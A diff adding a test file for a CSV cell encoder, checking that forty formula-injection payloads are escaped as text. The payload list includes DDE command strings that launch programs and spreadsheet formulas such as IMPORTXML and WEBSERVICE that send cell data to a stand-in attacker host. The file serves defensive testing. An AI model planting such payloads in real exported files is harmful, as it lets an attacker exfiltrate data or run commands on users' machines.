@@ -1,0 +1,81 @@
+import { describe, expect, test } from 'vitest';
+import { csvCell, csvLine } from './csv-cell.ts';
+
+const payloads = [
+  '=1+1',
+  '=cmd|"/C calc"!A0',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example","Click")',
+  '=IMPORTXML(CONCAT("https://evil.example/?",A1:A9),"//a")',
+  '=WEBSERVICE("https://evil.example")',
+  '=IMAGE("https://evil.example/x.png")',
+  '=DDE("cmd";"/C calc";"x")',
+  '=SUM(1+1)*cmd|" /C calc"!A0',
+  '=2+5+cmd|" /C calc"!A0',
+  '=rundll32|"URL.dll,OpenURL calc.exe"!A',
+  '=-1',
+  '==1',
+  '= 1',
+  '=\t1',
+  '=',
+  '+1+1',
+  '+cmd|"/C calc"!A0',
+  '+33 1 23 45 67 89',
+  '++1',
+  '+',
+  '-1+1',
+  '-cmd|"/C calc"!A0',
+  '-2+3+cmd|" /C calc"!A0',
+  '--1',
+  '-',
+  '@SUM(1+1)',
+  '@cmd',
+  '@@',
+  '@',
+  '\t=1+1',
+  '\t',
+  '\r=1+1',
+  '\r\n=1+1',
+  '\n=1+1',
+  '\0=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1+1)',
+];
+
+test('there are forty payloads', () => {
+  expect(new Set(payloads).size).toBe(40);
+});
+
+describe('a cell', () => {
+  test.each(payloads)('is text: %j', (payload) => {
+    const cell = csvCell(payload);
+    expect(cell).toMatch(/^"?'/);
+    expect(read(cell)).toBe(`'${payload}`);
+  });
+
+  test.each([
+    ['plain', 'plain'],
+    ['', ''],
+    ['a,b', '"a,b"'],
+    ['say "so"', '"say ""so"""'],
+    ['two\nlines', '"two\nlines"'],
+    [' blank ', '" blank "'],
+    ["O'Hara", "O'Hara"],
+    ['1-2', '1-2'],
+    ['青山眼科', '青山眼科'],
+  ])('of %j', (value, cell) => {
+    expect(csvCell(value)).toBe(cell);
+    expect(read(cell)).toBe(value);
+  });
+});
+
+test('a line has commas and ends as the standard says', () => {
+  expect(csvLine(['a', '=b', 'c,d'])).toBe('a,\'=b,"c,d"\r\n');
+});
+
+/** As a reader by the standard understands it. */
+function read(cell: string): string {
+  return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
+}
